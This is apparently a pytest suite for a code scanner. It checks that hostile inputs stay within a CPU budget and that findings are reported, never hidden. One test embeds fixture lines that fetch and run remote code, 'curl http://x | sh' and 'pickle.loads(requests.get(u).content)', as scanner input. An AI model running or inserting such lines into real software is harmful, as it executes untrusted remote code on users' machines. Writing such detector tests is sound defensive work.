"""Hostile file contents (issue 15): each is analyzed within its CPU budget plus a second, keeps the findings
made before a bound, and a file that defeats its analysis is reported (`analysis-exhausted`), never hidden."""
from __future__ import annotations

import multiprocessing
import resource
import time

import pytest

from bench.hostile_inputs import kinds
from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

BUDGET = 4.0
WALL_LIMIT = 60.0  # the old code ran for minutes or forever; a hang fails the test instead of stalling it
INPUTS = kinds(0.25)


@pytest.fixture(scope="module")
def analyzer():
    built = Analyzer(load_rules(), Config(file_timeout=BUDGET))
    built.analyze(Document(path="warm.py", content=b"import os\nos.system(x)\n"))  # compile outside the timing
    for ext in ("md", "php", "rb", "txt"):
        built.analyze(Document(path=f"warm.{ext}", content=b"x = 1\n"))
    return built


def _child(analyzer, name, content, conn):
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))  # a memory blow-up fails, not the machine
    start = time.thread_time()
    try:
        result = analyzer.analyze(Document(path=name, content=content))
        conn.send(("ok", time.thread_time() - start, [(f.rule_id, f.line, f.message) for f in result.findings],
                   [s.reason for s in result.skips]))
    except BaseException as exc:  # noqa: BLE001 - reported to the parent as the failure
        conn.send(("error", time.thread_time() - start, repr(exc), []))


def run_isolated(analyzer, name: str, content: bytes):
    """(status, cpu seconds, findings, skip reasons) from a forked child, or ("hang", ...) after WALL_LIMIT."""
    ctx = multiprocessing.get_context("fork")
    parent, child = ctx.Pipe(duplex=False)
    proc = ctx.Process(target=_child, args=(analyzer, name, content, child))
    proc.start()
    ready = parent.poll(WALL_LIMIT)
    if not ready:
        proc.kill()
        proc.join()
        return "hang", WALL_LIMIT, [], []
    out = parent.recv()
    proc.join()
    return out


@pytest.mark.parametrize("name", sorted(INPUTS))
def test_hostile_input_stays_within_its_budget(analyzer, name):
    status, cpu, findings, skips = run_isolated(analyzer, name, INPUTS[name])
    assert status == "ok", (status, findings)
    assert cpu <= BUDGET + 1.0, f"{name}: {cpu:.1f} s of CPU for a {BUDGET:g} s budget"
    assert len(findings) <= 150, f"{name}: {len(findings)} findings (one rule's are capped per file)"


@pytest.mark.parametrize("name", ["concat-chain.py", "deep-calls.py", "deep-concat.py"])
def test_syntax_too_deep_to_follow_is_reported_not_hidden(analyzer, name):
    status, _, findings, skips = run_isolated(analyzer, name, INPUTS[name])
    assert status == "ok"
    assert any(rule == "analysis-exhausted" for rule, _, _ in findings)
    assert any("nested deeper" in s for s in skips)


def test_a_crashing_detector_loses_only_its_own_findings(analyzer, monkeypatch):
    from codescan.analyze import deobfuscate

    content = ("import pickle, requests, os\ndata = pickle.loads(requests.get(u).content)\n"
               "os.system('curl http://x | sh')\nx = 1  # \u202e\n").encode()
    before = {(f.rule_id, f.line) for f in analyzer.analyze(Document(path="a.py", content=content)).findings
              if f.context != "folded"}
    assert len(before) >= 2

    def broken(*_args, **_kwargs):
        raise AttributeError("'NoneType' object has no attribute 'text'")

    monkeypatch.setattr(deobfuscate, "fold", broken)
    result = analyzer.analyze(Document(path="a.py", content=content))
    after = {(f.rule_id, f.line) for f in result.findings}
    assert before <= after  # every other stage's findings survive the folding crash
    assert ("analysis-exhausted", 1) in after
    assert any("folding failed: AttributeError" in s.reason for s in result.skips)


def test_ruby_call_without_a_method_name_is_analyzed(analyzer):
    content = b"require 'base64'\nx = 1\nL.(decode64"
    result = analyzer.analyze(Document(path="a.rb", content=content))
    assert not result.skips, result.skips


def test_findings_of_one_rule_are_capped_with_a_summary(analyzer):
    result = analyzer.analyze(Document(path="c.py", content=INPUTS["cyrillic-names.py"]))
    capped = [f for f in result.findings if f.rule_id == "confusable-identifier"]
    assert len(capped) == 100
    assert "more confusable-identifier findings in this file are not listed" in capped[0].message


def test_gzdecode_is_capped_by_its_output(analyzer):
    status, cpu, findings, _ = run_isolated(analyzer, "bomb.php", kinds(0.5)["php-gzdecode-bomb.php"])
    assert status == "ok", findings  # 500 MB inflated under a 3 GB address-space limit raised MemoryError
    assert cpu < BUDGET + 1.0


def test_the_tiny_missing_name_file_returns(analyzer):
    status, cpu, _, skips = run_isolated(analyzer, "t.py", b'/"o exec =')
    assert status == "ok" and cpu < 1.0


def test_the_obfuscated_setup_stand_in_is_reported_at_high(analyzer):
    """The held-out 667 kB PyPI setup.py (marshal/zlib/base64/lzma layers under generated names) drove a worker
    to 23 GB; its stand-in (bench/obfuscated_setup.py) must end within the budget, reported, never hidden."""
    from codescan.rules import load_rules

    status, cpu, findings, _ = run_isolated(analyzer, "setup.py", INPUTS["obfuscated-setup.py"])
    assert status == "ok" and cpu <= BUDGET + 1.0
    severity = {r.id: r.severity for r in load_rules().rules}
    high = {rule for rule, _, _ in findings if severity.get(rule) in ("high", "critical")}
    assert high & {"exec-of-decoded-payload", "encoded-blob", "obfuscated-import-name", "analysis-exhausted"}, high
